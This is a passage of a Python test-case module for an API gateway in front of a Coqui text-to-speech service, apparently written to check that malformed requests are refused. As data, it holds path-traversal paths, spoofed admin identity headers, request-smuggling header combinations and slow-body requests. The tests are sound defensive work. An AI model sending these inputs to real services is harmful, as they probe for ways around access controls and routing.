        refused("body", "coqui_query_nul", lambda k: coqui_get(k, f"{q}%00"), 400, "forbidden_character"),
        refused("body", "coqui_query_bidi", lambda k: coqui_get(k, f"{q}%E2%80%AE"), 400, "forbidden_character"),
        refused("body", "coqui_query_bad_escape", lambda k: coqui_get(k, f"{q}%zz"), 400, "invalid_encoding"),
        refused("body", "coqui_query_invalid_utf8", lambda k: coqui_get(k, f"{q}%C3%28"), 400, "invalid_utf8"),
        refused("body", "coqui_query_overlong_utf8", lambda k: coqui_get(k, f"{q}%C0%AF"), 400, "invalid_utf8"),
        refused("body", "coqui_query_duplicate_text", lambda k: coqui_get(k, f"{q}&text=other"), 400,
                "duplicate_field"),
        refused("body", "coqui_query_missing_text", lambda k: coqui_get(k, "speaker_id=0"), 400, "missing_field"),
        refused("body", "coqui_text_in_a_header", lambda k: coqui_get(k, q, ("text", "unchecked")), 400,
                "unsupported_parameter_source"),
        refused("body", "coqui_get_with_a_body",
                lambda k: request_bytes("GET", f"{COQUI}?{q}", [HOST, bearer(k.token()), FORM], b"voice=other"),
                400, "unexpected_body"),
        refused("body", "coqui_query_and_body",
                lambda k: speech(k, f"text={MARKER}".encode(), content_type=FORM, path=f"{COQUI}?{q}"), 400,
                "ambiguous_parameters"),
        refused("body", "coqui_form_zero_width",
                lambda k: speech(k, f"text={MARKER}%E2%80%8B".encode(), content_type=FORM, path=COQUI), 400,
                "forbidden_character"),
        refused("body", "coqui_json_negative_speaker",
                lambda k: speech(k, json.dumps({"text": TEXT, "speaker_id": -1}).encode(), path=COQUI), 400,
                "invalid_type"),
        # The filter knows each voice's speakers from the sidecar's catalog: refused before it.
        refused("body", "coqui_json_unknown_speaker",
                lambda k: speech(k, json.dumps({"text": TEXT, "speaker_id": 10 ** 11}).encode(), path=COQUI),
                400, "unknown_speaker"),
        passes("body", "coqui_query_valid", lambda k: coqui_get(k, f"text={MARKER}+sings")),
    ]
    return cases


# --- headers, routes and methods ------------------------------------------------------------

def _route_cases() -> list[Case]:
    def spoof(name, *headers, token=True, path=MODELS):
        return passes("route", name,
                      lambda k: get(path, *([bearer(k.token())] if token else []), *headers))

    def method(name, verb, path, code="method_not_allowed", status=405, **kw):
        return refused("route", f"method_{name}",
                       lambda k: request_bytes(verb, path, [HOST, bearer(k.token())]), status, code, **kw)

    def path(name, target, status=404, code="unknown_route", token=True):
        return refused("route", f"path_{name}",
                       lambda k: get(target, *([bearer(k.token())] if token else [])), status, code)

    return [
        # Spoofed identity headers: removed before anything else, never forwarded.
        spoof("spoofed_subject", ("x-voxgate-subject", "admin")),
        spoof("spoofed_subject_upper_case", ("X-VOXGATE-SUBJECT", "root")),
        spoof("spoofed_subject_twice", ("x-voxgate-subject", "admin"), ("x-voxgate-subject", "root")),
        spoof("spoofed_subject_underscore", ("x_voxgate_subject", "admin")),
        spoof("spoofed_plan_and_issuer", ("x-voxgate-plan", "enterprise"),
              ("x-voxgate-issuer", devtoken.DEV_ISSUER)),
        spoof("spoofed_subject_on_anonymous_route", ("x-voxgate-subject", "system:internal"), token=False,
              path="/healthz"),
        refused("route", "spoofed_subject_instead_of_token", raw(get(MODELS, ("x-voxgate-subject", "admin"))),
                401, "token_missing"),
        envoy("route", "header_name_with_space",
              lambda k: get(MODELS, bearer(k.token()), ("x-voxgate-subject ", "admin")), 400, envoy_400()),
        # Methods.
        method("get_on_speech", "GET", SPEECH),
        method("put_on_speech", "PUT", SPEECH),
        method("delete_on_models", "DELETE", MODELS),
        method("patch_on_coqui", "PATCH", COQUI),
        method("options_on_speech", "OPTIONS", SPEECH),
        method("trace_on_models", "TRACE", MODELS),
        method("post_on_models", "POST", MODELS),
        refused("route", "models_get_with_a_body",
                lambda k: request_bytes("GET", MODELS, [HOST, bearer(k.token()), JSON], b'{"input": "x"}'),
                400, "unexpected_body"),
        refused("route", "method_head_on_speech", lambda k: request_bytes("HEAD", SPEECH, [HOST, bearer(k.token())]),
                405, None, head=True),
        # CONNECT names an authority, not a path: no route serves it.
        method("connect", "CONNECT", "voxgate.test:443", "unknown_route", 404),
        envoy("route", "method_unknown_verb", lambda k: request_bytes("BREW", MODELS, [HOST, bearer(k.token())]),
              400, envoy_400()),
        # Paths: outside the route table, or made to look like a route.
        path("admin", "/admin"),
        path("root", "/"),
        path("other_version", "/v2/audio/speech"),
        path("upper_case", "/V1/models"),
        path("without_trailing_slash", "/v1"),
        path("dot_dot_out_of_a_route", "/v1/../admin"),
        path("encoded_dot_dot", "/v1/%2e%2e/admin"),
        path("backslashes", "/v1\\..\\admin"),
        path("encoded_percent", "/v1/%25admin", 400, "invalid_path"),
        envoy("route", "path_encoded_slash", lambda k: get("/v1/audio%2fspeech", bearer(k.token())), 400,
              envoy_400("path_normalization_failed")),
        envoy("route", "path_with_raw_nul", raw(b"GET /v1/mo\x00dels HTTP/1.1\r\nhost: voxgate.test\r\n\r\n"),
              400, envoy_400("http1.invalid_characters")),
        envoy("route", "path_70kb", lambda k: get("/v1/models/" + "a" * 70_000, bearer(k.token())), 431, ENVOY_431),
        passes("route", "path_dot_dot_into_a_route", lambda k: get("/api/tts/../../v1/models", bearer(k.token()))),
        passes("route", "path_doubled_slashes", lambda k: get("//v1//models", bearer(k.token()))),
        passes("route", "path_absolute_form", lambda k: get("http://attacker.example/v1/models", bearer(k.token()))),
        # Prefixes match whole segments: `/healthzz` is not under the anonymous `/healthz`.
        path("extending_an_anonymous_prefix", "/healthzz", token=False),
        path("extending_an_anonymous_prefix_with_a_dot", "/healthz.json", token=False),
        path("extending_an_authenticated_prefix", "/api/ttsx?text=hi"),
        # Huge and malformed header sets: Envoy's codec refuses them before any filter runs.
        envoy("route", "headers_101", lambda k: get(MODELS, bearer(k.token()), *[(f"x-h{i}", "v") for i in range(101)]),
              431, ENVOY_431),
        envoy("route", "header_70kb", lambda k: get(MODELS, bearer(k.token()), ("x-big", "v" * 70_000)), 431,
              ENVOY_431),
        envoy("route", "headers_61kb_in_small_pieces",
              lambda k: get(MODELS, bearer(k.token()), *[(f"x-h{i}", "v" * 650) for i in range(95)]), 431, ENVOY_431),
        envoy("route", "header_value_with_control_byte", lambda k: get(MODELS, bearer(k.token()), ("x-a", b"b\x01c")),
              400, envoy_400("http1.invalid_characters")),
        envoy("route", "missing_host", lambda k: b"GET /v1/models HTTP/1.1\r\nauthorization: Bearer "
              + k.token().encode() + b"\r\n\r\n", 400, envoy_400("missing_host_header")),
        envoy("route", "http_1_0", raw(b"GET /healthz HTTP/1.0\r\n\r\n"), 426,
              ("http_version_not_supported", "Upgrade Required")),
        # A folded header line is unfolded by Envoy; without a token that is a plain 401.
        refused("route", "obsolete_line_folding",
                raw(b"GET /v1/models HTTP/1.1\r\nhost: voxgate.test\r\nx-a: b\r\n c\r\n\r\n"), 401, "token_missing"),
        # Request smuggling shapes.
        envoy("route", "content_length_and_chunked",
              lambda k: speech(k, b"0\r\n\r\n", ("content-length", "5"), ("transfer-encoding", "chunked")),
              400, envoy_400("http1.content_length_and_chunked_not_allowed")),
        envoy("route", "content_length_not_a_number", lambda k: speech(k, b"", ("content-length", "abc")),
              400, envoy_400()),
        envoy("route", "two_content_lengths", lambda k: speech(k, b"{}", ("content-length", "2"),
                                                              ("content-length", "3")), 400, envoy_400()),
        envoy("route", "transfer_encoding_gzip",
              lambda k: speech(k, b"0\r\n\r\n", ("transfer-encoding", "gzip, chunked")), 501,
              ("unsupported_transfer_encoding",
               "only the chunked Transfer-Encoding is supported (http1.invalid_transfer_encoding)")),
        envoy("route", "chunk_size_not_hex",
              lambda k: speech(k, b"zz\r\nabc\r\n0\r\n\r\n", ("transfer-encoding", "chunked")), 400, envoy_400()),
    ]


# --- transport: chunked, dripped and stalled bodies -----------------------------------------

def _transport_cases() -> list[Case]:
    body = speech_json(f"The slow {MARKER} sings.")

    def drip(head: bytes, data: bytes, step: int, pause_s: float) -> list:
        return [Piece(head)] + [Piece(data[i:i + step], pause_s) for i in range(0, len(data), step)]

    chunked_head = lambda k: speech_head(k, ("transfer-encoding", "chunked"))  # noqa: E731
    sized_head = lambda k, data: speech_head(k, ("content-length", str(len(data))))  # noqa: E731
    bidi_body = speech_json(f"The slow {MARKER}\u202e sings.")
    return [
        passes("transport", "chunked_7_byte_chunks", lambda k: chunked_head(k) + chunked(body, 7)),
        passes("transport", "chunked_with_extensions",
               lambda k: chunked_head(k) + chunked(body, len(body)).replace(b"\r\n", b";ext=1\r\n", 1)),
        passes("transport", "chunked_with_trailers",
               lambda k: chunked_head(k) + chunked(body, 16)[:-2] + b"x-trailer: 1\r\n\r\n"),
        passes("transport", "body_dripped_byte_by_byte", lambda k: drip(sized_head(k, body), body, 1, 0.02)),
        passes("transport", "chunks_dripped", lambda k: drip(chunked_head(k), chunked(body, 3), 5, 0.03)),
        refused("transport", "invalid_body_dripped", lambda k: drip(sized_head(k, bidi_body), bidi_body, 4, 0.02),
                400, "forbidden_character"),
        refused("transport", "oversize_body_dripped_in_chunks",
                lambda k: drip(chunked_head(k), chunked(b" " * (k.max_body_bytes + 4096), 4096), 8192, 0.005),
                413, "body_too_large"),
        # A client that stops sending holds nothing for long: Envoy's request timeouts end it.
        envoy("transport", "stalled_headers", raw(b"POST /v1/audio/speech HTTP/1.1\r\nhost: voxgate.test\r\n"),
              408, ("request_timeout", "request header timeout"), background=True),
        envoy("transport", "stalled_body", lambda k: [Piece(sized_head(k, body) + body[:10], 60)], 408,
              ("request_timeout", "request timeout"), background=True),
        envoy("transport", "stalled_chunk", lambda k: [Piece(chunked_head(k) + b"40\r\n" + body[:10], 60)], 408,
              ("request_timeout", "request timeout"), background=True),
    ]


def all_cases() -> list[Case]:
    cases = _token_cases() + _token_placement_cases() + _body_cases() + _route_cases() + _transport_cases()
    ids = [c.id for c in cases]
    duplicates = {i for i in ids if ids.count(i) > 1}
    if duplicates:
        raise ValueError(f"duplicate case ids: {sorted(duplicates)}")
    return cases


CASES = all_cases()
